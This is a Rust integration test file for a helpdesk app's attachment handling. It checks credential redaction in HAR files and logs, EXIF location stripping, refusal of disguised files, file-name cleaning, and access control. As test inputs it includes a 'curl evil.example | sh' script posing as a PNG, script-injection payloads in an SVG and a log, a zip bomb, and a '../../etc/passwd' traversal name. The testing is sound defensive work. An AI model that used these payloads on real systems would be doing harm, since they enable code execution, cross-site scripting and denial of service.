//! Attachments through the pages: the ticket form, "add information" on the
//! status page and the staff composer take files; what is refused comes
//! back beside the field with everything typed and the files already kept;
//! credentials leave HAR files and logs before anything is stored; every
//! download is the requester's (by token) or staff's alone.

mod common;
#[path = "common/staff.rs"]
mod staff_helpers;

use apidesk::store::Store;
use apidesk::tickets::Ticket;
use axum::http::{StatusCode, header};
use common::multipart::FilePart;
use common::{TestApp, TestResponse, as_pairs, hidden_value, textarea_value, valid_ticket};
use staff_helpers::{signed_in_agent, status_url};

const HAR: &[u8] = include_bytes!("fixtures/attachments/chromium.har");
const LOG: &[u8] = include_bytes!("fixtures/attachments/integration.log");

/// Credentials the HAR fixture holds: its bearer JWT, session cookie,
/// `?access_token=` and a JSON body's `client_secret`.
const HAR_SECRETS: [&str; 4] = [
    "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IjIwMjQtMDktYSJ9",
    "Qm9vZ2xlLXNlc3Npb24tOTk4NzY1",
    "at_8cN2pQ7rT4vX9zB1mK5",
    "cs_live_Z9y8X7w6V5u4T3s2R1q0",
];

/// A small PNG, as a screenshot would be.
fn screenshot() -> Vec<u8> {
    let image = image::RgbImage::from_fn(64, 40, |x, y| image::Rgb([x as u8 * 4, y as u8 * 6, 90]));
    let mut out = std::io::Cursor::new(Vec::new());
    image
        .write_to(&mut out, image::ImageFormat::Png)
        .expect("a PNG encodes");
    out.into_inner()
}

/// A JPEG photo whose EXIF block holds GPS coordinates and a camera name.
fn photo_with_location() -> Vec<u8> {
    let image = image::RgbImage::from_fn(32, 32, |x, y| image::Rgb([x as u8 * 8, y as u8 * 8, 10]));
    let mut jpeg = Vec::new();
    image::codecs::jpeg::JpegEncoder::new(&mut jpeg)
        .encode_image(&image)
        .expect("a JPEG encodes");
    let payload =
        b"Exif\0\0MM\0*\0\0\0\x08GPSLatitude 52.5200N GPSLongitude 13.4050E Camera PixelPhone";
    let mut segment = vec![0xFF, 0xE1];
    segment.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
    segment.extend_from_slice(payload);
    // Right after the start-of-image marker, where cameras put it.
    let mut out = jpeg[..2].to_vec();
    out.extend_from_slice(&segment);
    out.extend_from_slice(&jpeg[2..]);
    out
}

async fn file_with(app: &mut TestApp, files: &[FilePart<'_>]) -> TestResponse {
    let fields = valid_ticket();
    let fields = as_pairs(&fields);
    app.post_multipart("/tickets", &fields, files).await
}

async fn only_ticket(store: &Store) -> Ticket {
    let token = token_of_newest(store).await;
    store.ticket_by_token(token).await.unwrap().unwrap()
}

async fn token_of_newest(store: &Store) -> uuid::Uuid {
    let count = store.count_tickets().await.unwrap();
    store.ticket_by_id(count).await.unwrap().unwrap().token
}

/// The files a page links to, as (address, name).
fn file_links(html: &str) -> Vec<(String, String)> {
    let mut links = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find("\" download>") {
        let start = rest[..at].rfind("href=\"").unwrap() + "href=\"".len();
        let href = rest[start..at].to_string();
        let after = &rest[at + "\" download>".len()..];
        let name = after[..after.find("</a>").unwrap()].to_string();
        links.push((href, name));
        rest = after;
    }
    links
}

#[tokio::test]
async fn a_har_file_and_a_screenshot_go_with_the_ticket_without_the_hars_credentials() {
    let mut app = TestApp::spawn().await;
    let png = screenshot();
    let res = file_with(
        &mut app,
        &[
            FilePart::file("network.har", HAR),
            FilePart::file("connection settings.png", &png),
        ],
    )
    .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let status_page = app.get(res.location()).await;
    status_page
        .assert_contains("network.har")
        .assert_contains("connection settings.png")
        .assert_contains("Taken out before it was kept:")
        .assert_contains("Authorization header");
    let links = file_links(&status_page.body);
    assert_eq!(links.len(), 2, "{links:?}");
    // The screenshot is shown small, and the HAR can be read in the page.
    assert!(status_page.body.contains("/thumbnail\""));
    assert!(status_page.body.contains("/preview\">Preview</a>"));

    let har = app.get(&links[0].0).await;
    assert_eq!(har.status, StatusCode::OK);
    assert_eq!(har.headers[header::CONTENT_TYPE], "application/json");
    assert_eq!(
        har.headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"network.har\"; filename*=UTF-8''network.har"
    );
    assert_eq!(har.headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(
        har.headers[header::CONTENT_SECURITY_POLICY],
        "default-src 'none'; sandbox"
    );
    let stored: serde_json::Value = serde_json::from_slice(&har.bytes).expect("still a HAR");
    assert!(
        stored["log"]["entries"]
            .as_array()
            .is_some_and(|e| !e.is_empty())
    );
    for secret in HAR_SECRETS {
        assert!(!har.body.contains(secret), "{secret} was served");
    }
    let shot = app.get(&links[1].0).await;
    assert_eq!(shot.headers[header::CONTENT_TYPE], "image/png");
    image::load_from_memory(&shot.bytes).expect("the screenshot is an image");
    let thumb = app.get(&format!("{}/thumbnail", links[1].0)).await;
    assert_eq!(thumb.headers[header::CONTENT_TYPE], "image/png");

    // Nothing of the credentials is anywhere in the database's files.
    let raw = app.database_bytes();
    for secret in HAR_SECRETS {
        assert!(
            !raw.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "{secret} is in the database"
        );
    }
}

#[tokio::test]
async fn a_log_is_stored_without_its_credentials_and_previewed_as_escaped_text() {
    let mut app = TestApp::spawn().await;
    let mut log = LOG.to_vec();
    log.extend_from_slice(b"\n<script>alert(1)</script> in the response body\n");
    let res = file_with(&mut app, &[FilePart::file("job.log", &log)]).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let page = app.get(res.location()).await;
    let (href, _) = file_links(&page.body).remove(0);
    let preview = app.get(&format!("{href}/preview")).await;
    assert_eq!(preview.status, StatusCode::OK);
    preview
        .assert_contains("&#60;script&#62;alert(1)&#60;/script&#62;")
        .assert_lacks("<script>alert(1)")
        .assert_contains("[redacted");
    let text = String::from_utf8_lossy(LOG);
    let download = app.get(&href).await;
    // The log's API key, bearer token and password: neither served nor
    // anywhere in the database's files.
    let raw = app.database_bytes();
    for secret in [
        "9f8e7d6c5b4a39281706f5e4d3c2b1a0",
        "Xq3vYgU1m8J2c0Pz4n8tQk0WcJc0cV5r6H7o9kLmN1s",
        "Tr0ub4dor_3x",
    ] {
        assert!(text.contains(secret), "the fixture holds {secret}");
        assert!(!download.body.contains(secret), "{secret} was served");
        assert!(
            !raw.windows(secret.len()).any(|w| w == secret.as_bytes()),
            "{secret} is in the database"
        );
    }
    assert_eq!(
        download.headers[header::CONTENT_TYPE],
        "text/plain; charset=utf-8"
    );
    assert!(download.body.contains("[redacted"));
    // Each line that named a credential still reads, with the value gone.
    assert!(download.body.lines().count() >= text.lines().count());
}

#[tokio::test]
async fn a_photo_loses_its_location_before_it_is_kept() {
    let mut app = TestApp::spawn().await;
    let photo = photo_with_location();
    assert!(photo.windows(11).any(|w| w == b"GPSLatitude"));
    let res = file_with(&mut app, &[FilePart::file("IMG_2041.jpg", &photo)]).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let page = app.get(res.location()).await;
    page.assert_contains("image metadata");
    let (href, _) = file_links(&page.body).remove(0);
    let stored = app.get(&href).await;
    assert_eq!(stored.headers[header::CONTENT_TYPE], "image/jpeg");
    for marker in [&b"GPSLatitude"[..], b"PixelPhone", b"Exif"] {
        assert!(!stored.bytes.windows(marker.len()).any(|w| w == marker));
    }
    let raw = app.database_bytes();
    assert!(!raw.windows(11).any(|w| w == b"GPSLatitude"));
    image::load_from_memory(&stored.bytes).expect("still a photo");
}

/// A zip whose one member expands a thousandfold: a zip bomb in small.
fn zip_bomb() -> Vec<u8> {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    zip.start_file("zeros.log", options).unwrap();
    let block = vec![b'0'; 1024 * 1024];
    for _ in 0..60 {
        zip.write_all(&block).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

#[tokio::test]
async fn refused_files_are_said_beside_the_field_with_everything_typed_kept() {
    let mut app = TestApp::spawn().await;
    let png = screenshot();
    let bomb = zip_bomb();
    let cases: [(&str, &[u8], &str); 6] = [
        (
            "photo.png",
            b"#!/bin/sh\ncurl evil.example | sh\n",
            "a script",
        ),
        (
            "notes.html",
            b"<!DOCTYPE html><html><body>hi</body></html>",
            "a web page",
        ),
        (
            "logo.svg",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>",
            "an SVG image",
        ),
        ("export.zip", &bomb, "zip"),
        ("empty.log", b"", "empty"),
        (
            "tool.exe",
            b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff",
            "a program",
        ),
    ];
    for (name, bytes, said) in cases {
        let res = file_with(
            &mut app,
            &[
                FilePart::file(name, bytes),
                FilePart::file("shot.png", &png),
            ],
        )
        .await;
        assert_eq!(
            res.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{name}: {}",
            res.body
        );
        res.assert_contains("id=\"files-error\"")
            .assert_contains(said);
        // What was typed comes back, and the good file is kept by id.
        assert_eq!(
            textarea_value(&res.body, "message").as_deref(),
            Some("HTTP GET failed: unauthorized (401)")
        );
        assert_eq!(
            hidden_value(&res.body, "email").as_deref(),
            Some("dana@example.com")
        );
        assert!(res.body.contains("name=\"files_kept\""), "{name}");
        assert_eq!(app.count_tickets().await, 0, "{name} filed a ticket");
    }
}

#[tokio::test]
async fn a_file_name_is_only_ever_a_name() {
    let mut app = TestApp::spawn().await;
    let res = file_with(
        &mut app,
        &[FilePart::file(
            "../../etc/passwd\t\u{202e}\u{200f}.txt",
            b"line one\nline two\n",
        )],
    )
    .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let page = app.get(res.location()).await;
    let links = file_links(&page.body);
    assert_eq!(links[0].1, "passwd.txt", "{}", page.body);
    let windows = file_with(
        &mut app,
        &[FilePart::file("C:\\Users\\dana\\Desktop\\shot.txt", b"x\n")],
    )
    .await;
    assert_eq!(windows.status, StatusCode::SEE_OTHER, "{}", windows.body);
    let page = app.get(windows.location()).await;
    assert_eq!(file_links(&page.body)[0].1, "shot.txt", "{}", page.body);
}

#[tokio::test]
async fn a_form_cut_off_in_a_file_is_refused_not_filed_without_it() {
    let mut app = TestApp::spawn().await;
    let token = app.csrf_token().await;
    let fields = valid_ticket();
    let mut all = vec![("csrf_token", token.as_str())];
    all.extend(as_pairs(&fields));
    let mut body = common::multipart::body(&all, &[]);
    // A file part whose header holds a byte no header may: the parser stops there.
    body.truncate(body.len() - format!("--{}--\r\n", common::multipart::BOUNDARY).len());
    body.extend_from_slice(
        format!(
            "--{}\r\nContent-Disposition: form-data; name=\"files\"; filename=\"a\u{7}b.log\"\r\n\r\nx\r\n--{}--\r\n",
            common::multipart::BOUNDARY,
            common::multipart::BOUNDARY
        )
        .as_bytes(),
    );
    let request = axum::http::Request::post("/tickets")
        .header(header::CONTENT_TYPE, common::multipart::content_type())
        .header(
            header::COOKIE,
            format!("apidesk_csrf={}", app.cookie("apidesk_csrf").unwrap()),
        )
        .body(axum::body::Body::from(body))
        .unwrap();
    let res = app.request(request).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.body);
    res.assert_contains("id=\"files-error\"");
    assert_eq!(app.count_tickets().await, 0);
}

#[tokio::test]
async fn a_form_with_a_mistake_keeps_its_files_for_the_next_submit() {
    let mut app = TestApp::spawn().await;
    let mut fields = valid_ticket();
    fields.retain(|(name, _)| *name != "email");
    let res = app
        .post_multipart(
            "/tickets",
            &as_pairs(&fields),
            &[FilePart::file("run.log", LOG)],
        )
        .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY);
    res.assert_contains("run.log");
    let kept = hidden_value(&res.body, "files_kept").expect("the file is kept");
    let submission = hidden_value(&res.body, "submission_id").unwrap();
    let mut again = valid_ticket();
    again.retain(|(name, _)| *name != "submission_id");
    again.push(("submission_id", submission));
    again.push(("files_kept", kept));
    let res = app.post_multipart("/tickets", &as_pairs(&again), &[]).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let page = app.get(res.location()).await;
    assert_eq!(file_links(&page.body).len(), 1);
    assert_eq!(file_links(&page.body)[0].1, "run.log");
}

#[tokio::test]
async fn only_the_requester_and_staff_reach_a_file() {
    let mut app = TestApp::spawn().await;
    let res = file_with(&mut app, &[FilePart::file("run.log", LOG)]).await;
    let page = app.get(res.location()).await;
    let (href, _) = file_links(&page.body).remove(0);
    let ticket = only_ticket(&app.state.store).await;
    let file_id = href.rsplit('/').next().unwrap().to_string();

    // The requester, by the ticket's token.
    assert_eq!(app.get(&href).await.status, StatusCode::OK);
    // Another ticket's token does not reach it.
    let other = file_with(&mut app, &[]).await;
    let other_url = other.location().split('?').next().unwrap().to_string();
    let res = app.get(&format!("{other_url}/files/{file_id}")).await;
    assert_eq!(res.status, StatusCode::NOT_FOUND);
    // Nor a made-up token, or a made-up file.
    let res = app
        .get(&format!(
            "/tickets/{}/files/{file_id}",
            uuid::Uuid::new_v4()
        ))
        .await;
    assert_eq!(res.status, StatusCode::NOT_FOUND);
    let res = app
        .get(&format!(
            "{}/files/{}",
            status_url(&ticket),
            uuid::Uuid::new_v4()
        ))
        .await;
    assert_eq!(res.status, StatusCode::NOT_FOUND);

    // Staff: not without signing in; an agent, yes.
    let staff_href = format!("/staff/tickets/{}/files/{file_id}", ticket.id);
    app.clear_cookies();
    let res = app.get(&staff_href).await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    assert!(res.location().starts_with("/staff/login"));
    signed_in_agent(&mut app, "agent@example.com", "Alex Agent").await;
    let res = app.get(&staff_href).await;
    assert_eq!(res.status, StatusCode::OK);
    assert!(res.body.contains("[redacted"));
    let staff_page = app.get(&format!("/staff/tickets/{}", ticket.id)).await;
    staff_page.assert_contains(&staff_href);
}

#[tokio::test]
async fn the_requester_adds_a_file_alone_and_staff_attach_one_to_a_note_they_never_see() {
    let mut app = TestApp::spawn().await;
    let res = file_with(&mut app, &[]).await;
    let status = res.location().split('?').next().unwrap().to_string();
    let png = screenshot();
    let res = app
        .post_multipart(
            &format!("{status}/replies"),
            &[("body", "")],
            &[FilePart::file("recipe.png", &png)],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let page = app.get(&status).await;
    page.assert_contains("Attached: recipe.png");
    assert_eq!(file_links(&page.body).len(), 1);
    let requester_cookies = app.cookie("apidesk_csrf").unwrap();

    let ticket = only_ticket(&app.state.store).await;
    signed_in_agent(&mut app, "agent@example.com", "Alex Agent").await;
    let staff_page = format!("/staff/tickets/{}", ticket.id);
    let form = app.get(&staff_page).await;
    let seen = hidden_value(&form.body, "seen").unwrap();
    let res = app
        .post_multipart(
            &format!("{staff_page}/compose"),
            &[
                ("seen", &seen),
                ("kind", "note"),
                ("text", "The customer's proxy log, for the platform team."),
                ("status", "open"),
                ("priority", ticket.priority.as_str()),
                ("assignee", "none"),
                ("was_status", ticket.status.as_str()),
                ("was_priority", ticket.priority.as_str()),
                ("was_assignee", "none"),
            ],
            &[FilePart::file("proxy.log", LOG)],
        )
        .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER, "{}", res.body);
    let staff_view = app.get(&staff_page).await;
    assert_eq!(file_links(&staff_view.body).len(), 2);
    let note_file = file_links(&staff_view.body)
        .into_iter()
        .find(|(_, name)| name == "proxy.log")
        .unwrap();
    let file_id = note_file.0.rsplit('/').next().unwrap().to_string();

    // The requester sees their own file, never the note's.
    app.clear_cookies();
    app.set_cookie("apidesk_csrf", &requester_cookies);
    let page = app.get(&status).await;
    assert_eq!(file_links(&page.body).len(), 1);
    page.assert_lacks("proxy.log");
    let res = app.get(&format!("{status}/files/{file_id}")).await;
    assert_eq!(res.status, StatusCode::NOT_FOUND);
}

#[tokio::test]
async fn files_survive_a_restart() {
    let mut app = TestApp::spawn().await;
    let res = file_with(&mut app, &[FilePart::file("run.log", LOG)]).await;
    let status = res.location().split('?').next().unwrap().to_string();
    let before = app.get(&status).await;
    let (href, _) = file_links(&before.body).remove(0);
    let kept = app.get(&href).await.bytes;
    let mut app = app.restart().await;
    let after = app.get(&href).await;
    assert_eq!(after.status, StatusCode::OK);
    assert_eq!(after.bytes, kept);
}

#[tokio::test]
async fn with_a_scanner_configured_a_file_it_cannot_check_is_not_kept() {
    let mut app = TestApp::spawn_configured(|config| {
        config.clamav = Some("/nonexistent/clamd.ctl".parse().unwrap());
    })
    .await;
    let res = file_with(&mut app, &[FilePart::file("run.log", LOG)]).await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.body);
    res.assert_contains("could not be checked for viruses");
    assert!(!res.body.contains("name=\"files_kept\""));
    assert_eq!(app.count_tickets().await, 0);
}

#[tokio::test]
async fn files_come_back_with_a_restored_backup() {
    let mut app = TestApp::spawn().await;
    let png = screenshot();
    let res = file_with(
        &mut app,
        &[
            FilePart::file("run.log", LOG),
            FilePart::file("shot.png", &png),
        ],
    )
    .await;
    assert_eq!(res.status, StatusCode::SEE_OTHER);
    let ticket = only_ticket(&app.state.store).await;
    let files = app
        .state
        .store
        .ticket_files(ticket.id, false)
        .await
        .unwrap();
    assert_eq!(files.len(), 2);
    let dir = tempfile::tempdir().unwrap();
    let backup = dir.path().join("backup.db");
    app.state.store.backup_to(&backup).await.unwrap();

    let restored = dir.path().join("restored.db");
    let url = format!("sqlite://{}", restored.display());
    Store::restore(&url, &backup).await.unwrap();
    let store = Store::connect(&url).await.unwrap();
    for file in &files {
        let (was, bytes) = app
            .state
            .store
            .ticket_file(ticket.id, file.id, false, false)
            .await
            .unwrap()
            .unwrap();
        let (now, restored_bytes) = store
            .ticket_file(ticket.id, file.id, false, false)
            .await
            .unwrap()
            .expect("the file is in the restored database");
        assert_eq!(now, was);
        assert_eq!(restored_bytes, bytes);
    }
    assert!(
        store
            .ticket_file(ticket.id, files[1].id, false, true)
            .await
            .unwrap()
            .is_some(),
        "the thumbnail is restored too"
    );
    store.close().await;
}

#[tokio::test]
async fn a_file_over_the_limit_is_refused_beside_the_field_and_a_form_over_all_limits_is_413() {
    let mut app = TestApp::spawn_configured(|config| {
        config.attachments.max_file_size = "4KB".parse().unwrap();
        config.attachments.max_ticket_files_size = "8KB".parse().unwrap();
    })
    .await;
    let big = vec![b'a'; 6 * 1024];
    let res = file_with(
        &mut app,
        &[
            FilePart::file("big.log", &big),
            FilePart::file("small.log", b"fine\n"),
        ],
    )
    .await;
    assert_eq!(res.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", res.body);
    res.assert_contains("big.log: the file is larger than 4 KB");
    assert!(res.body.contains("name=\"files_kept\""));
    assert_eq!(
        textarea_value(&res.body, "message").as_deref(),
        Some("HTTP GET failed: unauthorized (401)")
    );
    // Past what a form with files may send at all (the ticket's worth and
    // its text), the body is not read: 413, the error page saying why.
    let huge = vec![b'a'; 600 * 1024];
    let res = file_with(&mut app, &[FilePart::file("huge.log", &huge)]).await;
    assert_eq!(res.status, StatusCode::PAYLOAD_TOO_LARGE);
    res.assert_contains("attach fewer or smaller files");
    assert_eq!(app.count_tickets().await, 0);
}
